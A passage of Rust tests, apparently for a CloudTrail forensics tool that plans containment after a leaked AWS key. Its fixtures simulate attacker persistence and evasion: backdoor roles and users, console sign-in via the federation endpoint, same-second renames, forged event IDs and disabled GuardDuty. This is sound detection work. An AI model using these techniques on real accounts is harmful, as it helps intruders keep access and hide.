                r["eventID"] = json!("00000000-0000-0000-0000-000000000000");
                r["responseElements"]["assumedRoleUser"]["assumedRoleId"] = json!(fake);
            }
            issuing
        });
        if used {
            s.call(&session, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
        }
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "surgical");
        let denies = actions(&p, "put_role_policy");
        let doc = denies.iter().map(|a| a["policy_document"].to_string()).collect::<String>();
        assert!(doc.contains("\"*:s1\"") && !doc.contains(fake), "{before} {used}: {p}");
        assert_eq!(verify(&d, &p).0, 0);
        let (_, g, _) = run(&["sessions", "--format", "json"], &d);
        assert!(g["notes"].to_string().contains("name two role ids"), "{g}");
    }
}

/// A `DeleteUser` of the attacker's user, logged as made by an admin, after which the user's
/// key is still used and the user signs in: IAM deletes no user that has a key, and no key
/// outlives its user, so the record is not believed (a review reproduced it with plan and
/// verify OK: the user "deleted", its password and console session left alone). Without the
/// later use, the deletion stands.
#[test]
fn a_user_deletion_its_keys_later_use_contradicts_is_not_believed() {
    // 0: no later use; 1: the key used and a console sign-in after it; 2: no key, only the
    // console sign-in (a second review: still believed); 3: the sign-in after the user was
    // made again.
    let build = |case: u8| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.create_user(&leaked, T0, "evil");
        let key = (case != 2).then(|| s.create_access_key(&leaked, T0 + 10, Some("evil")));
        s.create_login_profile(&leaked, T0 + 20, "evil");
        let admin = s.user_key(MAIN, "admin", "AKIAI44QH8DHBEXAMPLE");
        s.call(&admin, T0 + 300, "iam.amazonaws.com", "DeleteUser", json!({"userName": "evil"}));
        if case == 3 {
            s.create_user(&admin, T0 + 900, "evil");
        }
        let console = (case > 0).then(|| s.console_login(MAIN, T0 + 1200, "evil"));
        if let (1, Some(key)) = (case, &key) {
            s.call(key, T0 + 600, "s3.amazonaws.com", "ListBuckets", Value::Null);
        }
        if let Some(c) = &console {
            s.call(c, T0 + 1260, "iam.amazonaws.com", "ListUsers", Value::Null);
        }
        (write(&s, &[]), console)
    };
    let evil = format!("arn:aws:iam::{MAIN}:user/evil");
    for case in [1, 2] {
        let (d, console) = build(case);
        assert!(tainted_ids(&d, LEAKED).contains(&console.unwrap().node_id()), "{case}");
        let p = plan(&d, LEAKED, "strict");
        assert!(principals(&p, "put_user_policy").contains(&evil), "{case}: {p}");
        let profile = actions(&p, "delete_login_profile");
        assert!(profile.iter().any(|a| a["user_name"] == "evil"), "{case}: {p}");
        assert_eq!(verify(&d, &p).0, 0);
        let (_, g, _) = run(&["sessions", "--format", "json"], &d);
        assert!(g["notes"].to_string().contains("not believed"), "{g}");
    }
    let (d, console) = build(3);
    assert!(!tainted_ids(&d, LEAKED).contains(&console.unwrap().node_id()), "made again");
    let (d, _) = build(0);
    let p = plan(&d, LEAKED, "strict");
    assert!(!principals(&p, "put_user_policy").contains(&evil), "{p}");
}

/// Changes the leaked key makes in IAM Identity Center (a user's e-mail, an account assignment,
/// a permission set's inline policy, a user of the identity store) lead to role sessions the
/// taint does not follow (F20): each is a NOT FOLLOWED review item of the plan, and an identity
/// store user is not called an IAM user. Before, none of them was in blast or the plan.
#[test]
fn identity_center_changes_are_review_items_not_iam_users() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let store = "identitystore.amazonaws.com";
    s.call(&leaked, T0, store, "UpdateUser", json!({"identityStoreId": "d-1234567890"}));
    s.call(&leaked, T0 + 10, store, "CreateUser", json!({"userName": "bob"}));
    let sso = "sso.amazonaws.com";
    s.call(&leaked, T0 + 20, sso, "CreateAccountAssignment", json!({"targetId": MAIN}));
    s.call(&leaked, T0 + 30, sso, "PutInlinePolicyToPermissionSet", json!({}));
    let sftp = json!({"serverId": "s-01234567890abcdef", "userName": "deploy"});
    s.call(&leaked, T0 + 40, "transfer.amazonaws.com", "CreateUser", sftp);
    let d = write(&s, &[]);
    let p = plan_with_routes(&d, LEAKED, 4);
    let reviews: Vec<String> = actions(&p, "review")
        .iter()
        .map(|a| a["reason"].as_str().unwrap().to_string())
        .filter(|r| r.contains("NOT FOLLOWED") && r.contains("F20"))
        .collect();
    for name in
        ["UpdateUser", "CreateUser", "CreateAccountAssignment", "PutInlinePolicyToPermissionSet"]
    {
        assert!(reviews.iter().any(|r| r.starts_with(name)), "{name}: {reviews:#?}");
    }
    let (_, b, _) = run(&["blast", "--format", "json", "--key", LEAKED], &d);
    assert!(!b["persistence"].to_string().contains("new IAM user"), "{b}");
    // Nor a finding of an attacker-made IAM user (a second review: the findings read the
    // name alone).
    let findings = b["findings"].to_string();
    assert!(!findings.contains("attacker_user") && !findings.contains("user/deploy"), "{findings}");
}

/// A deletion in the same second as the attacker's making of the name (make, delete, make
/// again, all in one second) cannot be ordered against it, so it is not believed: a review
/// reproduced the attacker's role (trust: its own account) and user switched off that way, the
/// outsider's session and the console password left alone, verify OK. A user made under the
/// attacker's user's name by someone else later, with no deletion logged between, no longer
/// shows the attacker's user gone (below).
#[test]
fn a_deletion_in_the_second_the_attacker_made_the_name_is_not_believed() {
    let iam = "iam.amazonaws.com";
    let role = format!("arn:aws:iam::{MAIN}:role/Backdoor");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let trust = json!({"roleName": "Backdoor", "assumeRolePolicyDocument": "{\"Statement\":[]}"});
    s.call(&leaked, T0, iam, "CreateRole", trust.clone());
    s.call(&leaked, T0, iam, "DeleteRole", json!({"roleName": "Backdoor"}));
    s.call(&leaked, T0, iam, "CreateRole", trust);
    let outsider = s.user_key(SECOND, "mallory", "AKIAI44QH8DHBEXAMPLE");
    let back_in = s.assume_role(&outsider, T0 + 120, &role, "x", 43_200);
    s.call(&back_in, T0 + 130, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.create_user(&leaked, T0 + 200, "evil");
    s.call(&leaked, T0 + 200, iam, "DeleteUser", json!({"userName": "evil"}));
    s.create_user(&leaked, T0 + 200, "evil");
    s.create_login_profile(&leaked, T0 + 220, "evil");
    let console = s.console_login(MAIN, T0 + 1200, "evil");
    s.call(&console, T0 + 1260, iam, "ListUsers", Value::Null);
    let d = write(&s, &[SECOND]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&back_in.node_id()), "{tainted:?}");
    assert!(tainted.contains(&console.node_id()), "{tainted:?}");
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&role), "{p}");
    let evil = format!("arn:aws:iam::{MAIN}:user/evil");
    assert!(principals(&p, "put_user_policy").contains(&evil), "{p}");
    assert!(actions(&p, "delete_login_profile").iter().any(|a| a["user_name"] == "evil"));
    assert_eq!(verify(&d, &p).0, 0);

    // Made again by an admin, the deletion not in the logs.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0, "evil");
    s.create_login_profile(&leaked, T0 + 20, "evil");
    let admin = s.user_key(MAIN, "admin", "AKIAI44QH8DHBEXAMPLE");
    s.create_user(&admin, T0 + 600, "evil");
    s.create_login_profile(&admin, T0 + 610, "evil");
    let console = s.console_login(MAIN, T0 + 1200, "evil");
    s.call(&console, T0 + 1260, iam, "ListUsers", Value::Null);
    // Since the fourth session's review: without the deletion in the logs, the second
    // CreateUser does not show the attacker's user gone (a copy of the attacker's own, or a
    // record forged under a new eventID, did the same and left the attacker's user uncut with
    // verify OK): the name is still the attacker's, its console session tainted and denied,
    // and the graph says why (a deny that may reach the new user: collateral to check).
    let d = write(&s, &[]);
    assert!(tainted_ids(&d, LEAKED).contains(&console.node_id()));
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_user_policy").contains(&evil), "{p}");
    // Not deleted: the user there now may be the admin's (a review of this change).
    assert!(actions(&p, "delete_user").is_empty(), "{p:#}");
    let reasons = review_reasons(&p).join("\n");
    assert!(reasons.contains("its name was made again at"), "{reasons}");
    assert_eq!(verify(&d, &p).0, 0);
    let (_, sessions, _) = run(&["sessions", "--format", "json"], &d);
    let notes = sessions["notes"].to_string();
    assert!(notes.contains("with no deletion of it logged in between"), "{notes}");
}

/// The leaked key assumes a role for 15 minutes, then turns the session into a console sign-in
/// through the federation endpoint (`GetSigninToken`, the aws_consoler technique): the console
/// session has a key of its own that no logged call issues and may live 12 hours from the
/// sign-in. A review found it never tainted: at the cut-off the 15-minute session had expired,
/// the plan had no deny for the role and verify said OK while the console session lived on.
/// Whether the console session's `creationDate` is the sign-in's or the signing session's,
/// it is tainted and denied, alive at a cut-off two hours on; a console session of the role under another session name is not
/// the attacker's.
#[test]
fn a_console_session_opened_through_the_federation_endpoint_is_tainted() {
    let role = format!("arn:aws:iam::{MAIN}:role/Ops");
    // Two hours before the cut-off: a chained session's hour (F4) is over by then.
    const B: i64 = T0 - 7200;
    let iam = "iam.amazonaws.com";
    for same_creation in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let session = s.assume_role(&leaked, B, &role, "s1", 900);
        s.call(&session, B + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.call(&session, B + 120, "signin.amazonaws.com", "GetSigninToken", Value::Null);
        let mut console = session.console_copy("ASIAQNZGKIQY56JQ7WML");
        if !same_creation {
            console.issued_at = Some(B + 125);
        }
        s.call(&console, B + 1200, "ec2.amazonaws.com", "DescribeInstances", Value::Null);
        // Someone else's console session of the role, under another name, later.
        let bob = s.user_key(MAIN, "bob", "AKIAI44QH8DHBEXAMPLE");
        let bobs = s.assume_role(&bob, B + 30, &role, "bob", 900);
        s.call(&bobs, B + 100, "signin.amazonaws.com", "GetSigninToken", Value::Null);
        let mut other = bobs.console_copy("ASIAQNZGKIQY56JQ7OTH");
        other.issued_at = Some(B + 101);
        s.call(&other, B + 1300, "ec2.amazonaws.com", "DescribeInstances", Value::Null);
        // A clean person's session of the same role and session name asked for a token a
        // minute before the attacker's (it took the link, first come); and a console session
        // of that name from another address, after the attacker's token, is not the attacker's
        // (a clean person switched into the role: what it made was deleted by the plan).
        let carol = s.user_key(MAIN, "carol", "AKIAJ7CAROL00EXAMPLE");
        let carols = s.assume_role(&carol, B - 60, &role, "s1", 900);
        s.call(&carols, B + 115, "signin.amazonaws.com", "GetSigninToken", Value::Null);
        let mut elsewhere = session.console_copy("ASIAQNZGKIQY56JQ7ELS");
        elsewhere.issued_at = Some(B + 200);
        s.call(&elsewhere, B + 1400, iam, "CreateUser", json!({"userName": "svc-backup"}));
        s.edit_records(|_, r| {
            if r["userIdentity"]["accessKeyId"] == elsewhere.key.as_str() {
                r["sourceIPAddress"] = json!("198.51.100.20");
            }
        });
        let d = write(&s, &[]);
        let tainted = tainted_ids(&d, LEAKED);
        assert!(tainted.contains(&console.node_id()), "{same_creation}: {tainted:?}");
        assert!(!tainted.contains(&other.node_id()), "{same_creation}: {tainted:?}");
        assert!(!tainted.contains(&elsewhere.node_id()), "{same_creation}: {tainted:?}");
        // The console session from elsewhere may still be the attacker's (or carol's): a
        // review item, and the plan and verify say the trail does not tell.
        let (code, p, err) =
            run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{same_creation}: {err}");
        assert!(principals(&p, "put_role_policy").contains(&role), "{same_creation}: {p}");
        assert!(actions(&p, "delete_user").is_empty(), "{same_creation}: {p}");
        assert_eq!(p["summary"]["sessions_to_check"], 1, "{same_creation}: {p:#}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{v:#}");
        assert!(v["notes"].to_string().contains(&elsewhere.node_id()), "{v:#}");
        let (_, g, _) = run(&["sessions", "--format", "json"], &d);
        assert!(g["notes"].to_string().contains("federation endpoint"), "{g}");
    }
}

/// A console session that may have been opened with the sign-in token of a tainted session,
/// from another address than that session's: the tool cannot tell whether it is the
/// attacker's. Before, it was neither tainted nor named: the 15-minute role session expired,
/// the console session lived on (12 hours) and verify said OK. Now the plan denies it (its
/// principal's sessions issued before the cut-off), leaves it to a review item and exits 1,
/// without removing the user it made; verify fails, and says so when the deny is gone.
#[test]
fn a_console_session_the_tool_cannot_attribute_is_denied_and_left_to_a_review() {
    let role = format!("arn:aws:iam::{MAIN}:role/Ops");
    const B: i64 = T0 - 7200;
    for strategy in ["strict", "surgical"] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let session = s.assume_role(&leaked, B, &role, "s1", 900);
        s.call(&session, B + 120, "signin.amazonaws.com", "GetSigninToken", Value::Null);
        let mut console = session.console_copy("ASIAQNZGKIQY56JQ7ELS");
        console.issued_at = Some(B + 200);
        s.call(&console, B + 1400, "iam.amazonaws.com", "CreateUser", json!({"userName": "svc-x"}));
        s.edit_records(|_, r| {
            if r["userIdentity"]["accessKeyId"] == console.key.as_str() {
                r["sourceIPAddress"] = json!("198.51.100.20");
            }
        });
        let d = write(&s, &[]);
        assert!(!tainted_ids(&d, LEAKED).contains(&console.node_id()));
        let (code, p, err) =
            run(&["plan", "--key", LEAKED, "--strategy", strategy, "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{strategy}: {err}");
        assert!(err.contains("cannot attribute"), "{err}");
        assert_eq!(p["summary"]["sessions_to_check"], 1, "{strategy}: {p:#}");
        let puts = actions(&p, "put_role_policy");
        assert_eq!(puts.len(), 1, "{strategy}: {p:#}");
        assert!(puts[0]["collateral"].to_string().contains(&console.node_id()), "{p:#}");
        assert!(actions(&p, "delete_user").is_empty(), "{strategy}: {p:#}");
        let reviews = serde_json::to_string(&actions(&p, "review")).unwrap();
        assert!(reviews.contains("asked for a console sign-in token"), "{reviews}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{v:#}");
        assert!(v["notes"].to_string().contains("the plan denies it"), "{v:#}");
        // Without the deny, verify says the plan does not cut it.
        let mut cut = p.clone();
        cut["actions"].as_array_mut().unwrap().retain(|a| a["type"] != "put_role_policy");
        let (code, v) = verify(&d, &cut);
        assert_eq!(code, 1, "{v:#}");
        assert!(v["notes"].to_string().contains("does NOT cut it"), "{v:#}");
    }
}

/// Renames of the attacker's user in one second: the logs do not order calls within a
/// second, and eventIDs are random, yet they ordered the renames (`evil` → `tmp` → `evil2`
/// stopped at `tmp`: every command named a user that no longer existed, verify OK; a swap of
/// two users' names through a third denied the clean user everything). The name the user has
/// now is not known: the plan neither denies nor removes any user under a guessed name, leaves
/// it to a review item and exits 1, and verify fails.
#[test]
fn renames_in_one_second_leave_the_users_name_to_a_review() {
    let iam = "iam.amazonaws.com";
    for swap in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.create_user(&leaked, T0, "evil");
        s.create_login_profile(&leaked, T0 + 10, "evil");
        let key = s.create_access_key(&leaked, T0 + 20, Some("evil"));
        let steps: &[(&str, &str)] = if swap {
            &[("evil", "tmp"), ("bob", "evil"), ("tmp", "bob")]
        } else {
            &[("evil", "tmp"), ("tmp", "evil2")]
        };
        let mut ids = Vec::new();
        for (from, to) in steps {
            let rename = json!({"userName": from, "newUserName": to});
            ids.push(s.call(&leaked, T0 + 60, iam, "UpdateUser", rename));
        }
        // The first rename's eventID sorts last.
        s.edit_records(|_, r| {
            if r["eventID"] == ids[0].as_str() {
                r["eventID"] = json!("ffffffff-5ce0-4a1e-8000-000000000000");
            }
        });
        let key = s.user_key(MAIN, if swap { "bob" } else { "evil2" }, &key.key);
        s.call(&key, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let d = write(&s, &[]);
        let (code, p, err) =
            run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{swap}: {err}");
        assert!(err.contains("by hand"), "{err}");
        assert!(principals(&p, "put_user_policy").is_empty(), "{swap}: {p:#}");
        assert!(actions(&p, "delete_user").is_empty(), "{swap}: {p:#}");
        assert!(actions(&p, "delete_login_profile").is_empty(), "{swap}: {p:#}");
        let reviews = serde_json::to_string(&actions(&p, "review")).unwrap();
        assert!(reviews.contains("same second"), "{swap}: {reviews}");
        assert_eq!(p["summary"]["users_by_hand"], 1, "{swap}: {p:#}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{swap}: {v:#}");
        assert!(v["notes"].to_string().contains("same second"), "{v:#}");
    }
}

/// A rename of a clean user in the same second as the leaked key's `CreateUser` of its name:
/// IAM made the user after the rename freed the name, or renamed the user it had just made;
/// the logs do not tell. The plan took the rename for after the making and denied, stripped
/// and deleted the clean user under its new name (a review's finding). The made user is left
/// to a review item, and no action names the renamed user (the password set a second later
/// is on whichever user is `alice` then: that one is denied everything).
#[test]
fn a_rename_in_the_second_a_user_is_made_leaves_it_to_a_review() {
    let iam = "iam.amazonaws.com";
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let rename = json!({"userName": "alice", "newUserName": "alice-old"});
    s.call(&leaked, T0 + 60, iam, "UpdateUser", rename);
    s.create_user(&leaked, T0 + 60, "alice");
    s.create_login_profile(&leaked, T0 + 70, "alice");
    let d = write(&s, &[]);
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["users_by_hand"], 1, "{p:#}");
    let named = serde_json::to_string(&p["actions"]).unwrap();
    assert!(!named.contains("--user-name alice-old"), "{named}");
    let old = format!("arn:aws:iam::{MAIN}:user/alice-old");
    assert!(!principals(&p, "put_user_policy").contains(&old), "{p:#}");
    assert_eq!(verify(&d, &p).0, 1);
}

/// The leaked key uploads an SSH key for a clean user, renames the user away and makes a new
/// user under the old name: the key is on the renamed user, not gone (the `CreateUser` was
/// taken to show the key's user gone, and verify said OK).
#[test]
fn an_ssh_key_follows_its_user_renamed_away_from_a_name_made_again() {
    let iam = "iam.amazonaws.com";
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let upload = json!({"userName": "alice", "sSHPublicKeyBody": "ssh-rsa AAAA"});
    let made = json!({"sSHPublicKey": {"userName": "alice", "sSHPublicKeyId": "APKAEIBAERJR2EXAMPLE", "status": "Active"}});
    s.call_full(&leaked, T0, iam, "UploadSSHPublicKey", upload, made, None, "aws-cli/2.15.0");
    let rename = json!({"userName": "alice", "newUserName": "alice-old"});
    s.call(&leaked, T0 + 60, iam, "UpdateUser", rename);
    s.create_user(&leaked, T0 + 120, "alice");
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let ssh = actions(&p, "deactivate_ssh_public_key");
    assert!(ssh.iter().any(|a| a["user_name"] == "alice-old"), "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// The records as the rows of a query result: CSV with the header `cols` (the columns of
/// `trailhound query`, in its order, unless a test leaves some out), or JSON Lines.
fn result_rows(recs: &[Value], cols: &[&str], csv: bool) -> String {
    use trailhound::ingest::result::{Kind, COLUMNS};
    let cell = |r: &Value, name: &str| -> Option<String> {
        let (_, path, kind) = COLUMNS.iter().find(|c| c.0 == name)?;
        let v = path.iter().try_fold(r, |v, p| v.get(*p))?;
        match (v, kind) {
            (Value::Null, _) => None,
            (Value::String(s), Kind::Text) => Some(s.clone()),
            (v, _) => Some(v.to_string()),
        }
    };
    let mut out = String::new();
    if csv {
        out.push_str(&cols.iter().map(|c| format!("\"{c}\"")).collect::<Vec<_>>().join(","));
        out.push('\n');
    }
    for r in recs {
        if csv {
            let cells: Vec<String> = cols
                .iter()
                .map(|c| format!("\"{}\"", cell(r, c).unwrap_or_default().replace('"', "\"\"")))
                .collect();
            out.push_str(&cells.join(","));
        } else {
            let obj: serde_json::Map<String, Value> = cols
                .iter()
                .filter_map(|c| Some((c.to_string(), Value::String(cell(r, c)?))))
                .collect();
            out.push_str(&Value::Object(obj).to_string());
        }
        out.push('\n');
    }
    out
}

/// Query results that lack a column, or whose form was not recognized, were read without a
/// word or skipped: a result without `eventsource` (a hand-edited SELECT) gave a plan with no
/// tainted session, exit 0, and verify said OK; a CSV without `eventid`, or with the `sep=,`
/// line a spreadsheet writes, and a JSON Lines result whose first row has no `eventid` (Spark
/// leaves null columns out) were skipped, their rows lost, exit 0. Now a result that lacks a
/// column is read and damaged (exit 3, the file and the columns named), the spreadsheet's
/// line and blank lines before the header are passed over, and a JSON Lines row without
/// `eventsource` is rejected alone.
#[test]
fn query_results_that_lack_columns_or_hide_their_form_are_not_read_as_whole() {
    use trailhound::ingest::result::COLUMNS;
    let role = format!("arn:aws:iam::{MAIN}:role/Ops");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let session = s.assume_role(&leaked, T0, &role, "s1", 7200);
    s.call(&leaked, T0 + 30, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&session, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let mut recs = Vec::new();
    s.edit_records(|_, r| recs.push(r.clone()));
    let all: Vec<&str> = COLUMNS.iter().map(|c| c.0).collect();
    let without = |c: &str| all.iter().copied().filter(|x| *x != c).collect::<Vec<_>>();
    let case = |name: &str, body: String| -> (i32, Value, String) {
        let d = TempDir::new().unwrap();
        crate::util::write(&d.path().join("trail"), name, body.as_bytes());
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d)
    };
    let (code, whole, err) = case("results.csv", result_rows(&recs, &all, true));
    assert_eq!(code, 0, "{err}");
    assert!(principals(&whole, "put_role_policy").contains(&role), "{whole:#}");
    let sheet = format!("\n\nsep=,\n{}", result_rows(&recs, &all, true));
    let (code, p, err) = case("results.csv", sheet);
    assert_eq!((code, &p["actions"]), (0, &whole["actions"]), "{err}");
    let spark = result_rows(&recs, &without("eventid"), false);
    let (code, p, err) = case("part-00000.json", spark);
    assert_eq!((code, &p["actions"]), (0, &whole["actions"]), "{err}");
    for gone in ["eventsource", "eventid", "useridentity_accesskeyid"] {
        let (code, _, err) = case("results.csv", result_rows(&recs, &without(gone), true));
        // Without the key column (or with every row rejected for want of its eventsource) the
        // leaked key is in no credential: a usage error (2).
        let want = if gone == "eventid" { 3 } else { 2 };
        assert_eq!(code, want, "{gone}: {err}");
        assert!(err.contains("results.csv") && err.contains(gone), "{gone}: {err}");
        // verify of the whole plan on that result: not OK.
        if code == 3 {
            let d = TempDir::new().unwrap();
            let body = result_rows(&recs, &without(gone), true);
            crate::util::write(&d.path().join("trail"), "r.csv", body.as_bytes());
            assert_eq!(verify(&d, &whole).0, 3, "{gone}");
        }
    }
    // Results from after the AssumeRole (a query run with --since): the session is in use
    // but its issue is not in them, and the blast radius says so.
    let late: Vec<Value> =
        recs.iter().filter(|r| r["eventName"] != "AssumeRole").cloned().collect();
    let d = TempDir::new().unwrap();
    crate::util::write(&d.path().join("trail"), "r.csv", result_rows(&late, &all, true).as_bytes());
    let (code, b, err) = run(&["blast", "--format", "json", "--key", LEAKED], &d);
    assert_eq!(code, 0, "{err}");
    assert!(b["notes"].to_string().contains("issued before their earliest event"), "{b:#}");
    // An emptied column is no column: the AssumeRole row without its eventsource is rejected.
    let emptied = result_rows(&recs, &all, true).replace("\"sts.amazonaws.com\"", "\"\"");
    let (code, _, err) = case("results.csv", emptied);
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("no eventsource"), "{err}");
    // JSON Lines without requestparameters: as DuckDB writes it (nulls kept), the file is
    // damaged; as Spark does (null columns left out), the role assumption's row is rejected.
    let cut = without("requestparameters");
    let spark = result_rows(&recs, &cut, false);
    let duck: Vec<String> = spark
        .lines()
        .map(|l| {
            let mut v: Value = serde_json::from_str(l).unwrap();
            for c in &cut {
                v.as_object_mut().unwrap().entry(c.to_string()).or_insert(Value::Null);
            }
            v.to_string()
        })
        .collect();
    let (code, _, err) = case("part-00000.json", duck.join("\n"));
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("requestparameters"), "{err}");
    let (code, _, err) = case("part-00000.json", spark);
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("which every role assumption has"), "{err}");
    // The role session's call without its eventsource: that row alone is rejected.
    let jsonl: Vec<String> = result_rows(&recs, &all, false)
        .lines()
        .map(|l| {
            let mut v: Value = serde_json::from_str(l).unwrap();
            if v["eventname"] == "ListBuckets" {
                v.as_object_mut().unwrap().remove("eventsource");
            }
            v.to_string()
        })
        .collect();
    let (code, _, err) = case("part-00000.json", jsonl.join("\n"));
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("no eventsource"), "{err}");
}

/// A `GetSessionToken` or `GetFederationToken` session of the leaked key's user whose issuing
/// call is not in the trail (an STS regional endpoint in a region the trail does not record,
/// F15), and the role session it took: neither was tainted nor named, the plan deactivated the
/// key alone (which cuts neither, F5, F12), verify OK. Only the user's keys (or its console)
/// make such a session: the plan now denies both on their principals (F7), leaves them to
/// review items and exits 1, and verify fails.
#[test]
fn a_session_of_the_leaked_keys_user_that_no_logged_call_issued_is_denied_and_left_to_a_review() {
    let role = format!("arn:aws:iam::{MAIN}:role/deploy");
    let user = format!("arn:aws:iam::{MAIN}:user/ci");
    for (federated, chain) in [(false, false), (false, true), (true, false)] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci", LEAKED);
        s.call(&leaked, T0 - 3600, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
        let session = if federated {
            s.get_federation_token(&leaked, T0, "fed", 43200)
        } else {
            s.get_session_token(&leaked, T0, 129_600)
        };
        s.drop_records(|_, r| {
            r["eventName"] == "GetSessionToken" || r["eventName"] == "GetFederationToken"
        });
        s.call(&session, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let child = chain.then(|| {
            let c = s.assume_role(&session, T0 + 120, &role, "gst-child", 43200);
            s.call(&c, T0 + 180, "s3.amazonaws.com", "ListBuckets", Value::Null);
            c
        });
        let d = write(&s, &[]);
        let what = format!("federated {federated}, chain {chain}");
        assert!(!tainted_ids(&d, LEAKED).contains(&session.node_id()), "{what}");
        let (code, p, err) =
            run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{what}: {err}");
        assert_eq!(p["summary"]["sessions_to_check"], 1 + u64::from(chain), "{what}: {p:#}");
        assert!(principals(&p, "put_user_policy").contains(&user), "{what}: {p:#}");
        assert_eq!(principals(&p, "put_role_policy").contains(&role), chain, "{what}: {p:#}");
        let reviews = serde_json::to_string(&actions(&p, "review")).unwrap();
        assert!(reviews.contains(&session.node_id()), "{what}: {reviews}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{what}: {v:#}");
        let notes = v["notes"].to_string();
        assert!(notes.contains(&session.node_id()), "{what}: {notes}");
        if let Some(c) = &child {
            assert!(notes.contains(&c.node_id()), "{what}: {notes}");
        }
    }
}

/// A partner account that took a role routinely, before the leaked key set the role's trust
/// policy (adding the attacker's account beside it): the partner's next run, after the change,
/// was tainted by the trust rule and plan.sh deleted the user it made. The change did not let
/// the partner in, so its session is one to check (denied, a review item, exit 1) and what it
/// made is not removed; the attacker's own account's session is tainted as before.
#[test]
fn a_partner_that_took_the_role_before_the_attacker_set_its_trust_is_not_the_attacker() {
    let role = format!("arn:aws:iam::{MAIN}:role/provisioner");
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let partner = s.user_key(SECOND, "deployer", "AKIAI44QH8DHBEXAMPLE");
    let run1 = s.assume_role(&partner, T0 - 7200, &role, "run1", 3600);
    s.call(&run1, T0 - 7100, "iam.amazonaws.com", "ListUsers", Value::Null);
    let trust = json!({"roleName": "provisioner", "policyDocument": "{}"});
    s.call(&leaked, T0 - 1800, "iam.amazonaws.com", "UpdateAssumeRolePolicy", trust);
    let run2 = s.assume_role(&partner, T0, &role, "run2", 7200);
    s.create_user(&run2, T0 + 60, "svc-billing");
    let made = s.create_access_key(&run2, T0 + 120, Some("svc-billing"));
    let attacker = s.user_key(THIRD, "x", "AKIAJ7CAROL00EXAMPLE");
    let theirs = s.assume_role(&attacker, T0 + 300, &role, "x", 7200);
    s.call(&theirs, T0 + 360, "s3.amazonaws.com", "ListBuckets", Value::Null);
    // Only the role owner's logs: the callers are known by their account alone.
    let d = write(&s, &[SECOND, THIRD]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&theirs.node_id()), "{tainted:?}");
    assert!(!tainted.contains(&run2.node_id()), "{tainted:?}");
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "surgical", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert!(actions(&p, "delete_user").is_empty(), "{p:#}");
    // The session and the key made under it (named, with how to deactivate it).
    assert_eq!(p["summary"]["sessions_to_check"], 2, "{p:#}");
    let puts = actions(&p, "put_role_policy");
    assert_eq!(puts.len(), 1, "{p:#}");
    let doc = puts[0]["policy_document"].to_string();
    assert!(doc.contains(":run2") && doc.contains(":x"), "{doc}");
    let reviews = serde_json::to_string(&actions(&p, "review")).unwrap();
    assert!(reviews.contains("had taken the role before"), "{reviews}");
    assert!(reviews.contains("svc-billing") && reviews.contains(&made.key), "{reviews}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v:#}");
    assert!(v["notes"].to_string().contains(&run2.node_id()), "{v:#}");
}

/// Defences the leaked key took down were counted as actions and nothing more: the quarantine
/// policy AWS attaches to an exposed key's user detached (F19), GuardDuty's detector deleted,
/// the account taken out of its organization, a policy's default version replaced. Each is
/// now a review item naming what changed; the account out of the organization is also a route
/// not followed (an organization trail no longer logs it: plan exit 1).
#[test]
fn defences_the_attacker_took_down_are_review_items() {
    let iam = "iam.amazonaws.com";
